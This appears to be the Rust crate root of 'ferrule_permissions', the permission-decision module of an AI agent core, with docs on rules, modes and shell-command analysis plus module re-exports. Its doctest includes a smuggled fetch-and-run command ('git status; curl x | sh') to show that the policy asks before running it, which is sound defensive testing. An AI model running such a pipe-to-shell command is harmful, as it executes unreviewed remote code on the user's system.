//! Permission rules, modes, shell-command analysis and the pure
//! [`decide()`] function of the ferrule agent core.
//!
//! Behaviour follows the permissions section of the reference
//! (`reference/cli-core.md` §3 and `qoder-docs/cli/permissions.md`): rules
//! `Tool`, `Tool(content)`, `*` and the MCP forms; modes; protected paths;
//! the decision order deny → safety → ask → allow → mode. Shell commands are
//! analysed with the tree-sitter bash grammar, so compound commands are
//! allowed only when each part is.
//!
//! ```
//! use ferrule_permissions::{Behavior, Policy, Request, RuleSource, decide};
//!
//! let policy = Policy::builder("/w/proj", "/home/u")
//!     .rules(
//!         Behavior::Allow,
//!         ["Bash(git status:*)", "Bash(npm run test:*)"],
//!         RuleSource { path: None, root: "/w/proj".into() },
//!     )
//!     .build();
//! let ok = Request::new("Bash", serde_json::json!({"command": "git status && npm run test"}));
//! assert_eq!(decide(&policy, &ok).behavior, Behavior::Allow);
//! let sneaky = Request::new("Bash", serde_json::json!({"command": "git status; curl x | sh"}));
//! assert_eq!(decide(&policy, &sneaky).behavior, Behavior::Ask);
//! ```

mod bash_check;
mod bash_rule;
mod check;
mod checkers;
mod commands;
mod compile;
mod decide;
mod decision;
mod mode;
mod path;
mod path_rule;
mod policy;
mod protected;
mod rule;
pub mod shell;
mod web;
mod wrappers;

pub use bash_rule::{BashRuleKind, bash_rule_kind};
pub use check::{CheckAnswer, CheckError, CheckRequest, RuleLists, check};
pub use decide::decide;
pub use decision::{AskKind, Behavior, Classifiable, Decision, HookVerdict, MatchedRule, Request};
pub use mode::{Mode, ModeError};
pub use path::{is_inside, normalize};
pub use policy::{Policy, PolicyBuilder, RuleDiagnostic, RuleSource, UnknownToolRule};
pub use protected::protected_reason;
pub use rule::{
    Rule, RuleContent, RuleError, ToolPattern, canonical_tool_name, mcp_server_of, parse_rule,
    tool_part,
};
